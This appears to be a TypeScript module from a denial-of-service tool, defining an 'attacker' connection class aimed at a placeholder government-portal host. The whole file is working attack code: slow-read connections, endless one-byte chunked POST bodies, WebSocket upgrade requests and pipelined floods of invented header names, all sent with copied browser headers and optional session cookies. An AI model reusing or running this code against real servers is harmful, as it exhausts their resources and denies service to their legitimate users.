import { type Socket } from 'node:net'
import { BROWSER } from '../../browser.ts'
import { type AttackJob, type Manner } from './attacks.ts'
import { connectAs } from './told.ts'

/** What is told of a connection. */
export interface MemberEvents {
  /** Gives a number that no other request has. */
  readonly onAsked: () => number
  readonly onSent: (bytes: number) => void
  readonly onReceived: (bytes: number) => void
  readonly onStatus: (status: number) => void
  readonly onOpened: () => void
  readonly onClosed: (member: Member) => void
}

/** What a connection of a manner says and takes. */
interface Conduct {
  readonly method: string
  /** Requests that are sent one behind the other. */
  readonly atOnce: number
  /** Header fields besides those of a browser. */
  readonly fields: (number: number) => string
  readonly takesLittle: boolean
  readonly pours: boolean
}

const UPGRADE =
  'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n'
const CHUNKED = 'Transfer-Encoding: chunked\r\nContent-Type: application/x-www-form-urlencoded\r\n'

const USUAL: Conduct = {
  method: 'GET',
  atOnce: 1,
  fields: () => '',
  takesLittle: false,
  pours: false,
}

const CONDUCTS: Readonly<Record<Manner, Conduct>> = {
  sip: { ...USUAL, takesLittle: true },
  nothing: { ...USUAL, takesLittle: true },
  chunks: { ...USUAL, method: 'POST', fields: () => CHUNKED, pours: true },
  socket: { ...USUAL, fields: () => UPGRADE },
  names: { ...USUAL, atOnce: 8, fields: (number) => `X-Made-Up-${number.toString(36)}: 1\r\n` },
}

/** What is taken at once by who takes hardly anything. */
const SIP_BYTES = 1024

/** Chunks of one byte, as many as a socket takes at once. */
const CHUNKS = Buffer.from('1\r\na\r\n'.repeat(2_000))

const FIELDS = Object.entries({ Host: 'demarches.example.lu', ...BROWSER })
  .filter(([name]) => name !== 'Cookie')
  .map(([name, value]) => `${name}: ${value}\r\n`)
  .join('')

const ANSWER = /HTTP\/1\.1 (\d{3}) /g

/** One connection of an attacker. */
export class Member {
  readonly #job: AttackJob
  readonly #place: number
  readonly #conduct: Conduct
  readonly #events: MemberEvents
  readonly #socket: Socket
  #answers = 0
  #isOpened = false

  constructor(job: AttackJob, place: number, events: MemberEvents) {
    this.#job = job
    this.#place = place
    this.#conduct = CONDUCTS[job.manner]
    this.#events = events
    this.#socket = this.#connect()
    this.#socket.once('connect', () => this.#begin())
    this.#socket.on('error', () => undefined)
    this.#socket.once('close', () => {
      this.#open()
      events.onClosed(this)
    })
  }

  /** Nothing was said to it. */
  get isUnanswered(): boolean {
    return this.#answers === 0
  }

  /** Takes a little more. */
  sip(): void {
    this.#socket.resume()
  }

  leave(): void {
    this.#socket.destroy()
  }

  #connect(): Socket {
    const { addresses, port } = this.#job
    const address = addresses[this.#place % addresses.length] ?? ''
    if (!this.#conduct.takesLittle) {
      return connectAs(address, { port }).on('data', (piece: Buffer) => this.#take(piece))
    }
    const callback = (bytes: number, buffer: Uint8Array): boolean => {
      this.#take(Buffer.from(buffer.subarray(0, bytes)))
      return false
    }
    return connectAs(address, { port, onread: { buffer: Buffer.alloc(SIP_BYTES), callback } })
  }

  #begin(): void {
    this.#open()
    this.#ask()
    if (this.#conduct.pours) this.#pour()
  }

  /** Open, or closed before it was. */
  #open(): void {
    if (this.#isOpened) return
    this.#isOpened = true
    this.#events.onOpened()
  }

  #ask(): void {
    const { path, passes } = this.#job
    const pass = passes[this.#place % passes.length]
    const cookie = pass === undefined ? '' : `Cookie: ${pass}\r\n`
    const { method, atOnce, fields } = this.#conduct
    const head = `${method} ${path} HTTP/1.1\r\n${FIELDS}${cookie}`
    const heads = Array.from({ length: atOnce }, () => head + fields(this.#events.onAsked()))
    this.#write(heads.map((own) => `${own}\r\n`).join(''))
  }

  #write(bytes: string | Buffer): void {
    this.#events.onSent(bytes.length)
    this.#socket.write(bytes)
  }

  #pour(): void {
    if (this.#socket.destroyed) return
    this.#write(CHUNKS)
    if (this.#socket.writableNeedDrain) this.#socket.once('drain', () => this.#pour())
    else setImmediate(() => this.#pour())
  }

  #take(piece: Buffer): void {
    this.#events.onReceived(piece.length)
    for (const [, status] of piece.toString('latin1').matchAll(ANSWER)) {
      this.#events.onStatus(Number(status))
      this.#answered(Number(status))
    }
  }

  /** Who is refused, or has been told enough, is no burden any more. */
  #answered(status: number): void {
    this.#answers++
    const { atOnce, pours } = this.#conduct
    if (pours || (atOnce === 1 && status >= 300)) this.leave()
    else if (atOnce > 1 && this.#answers % atOnce === 0) this.#ask()
  }
}
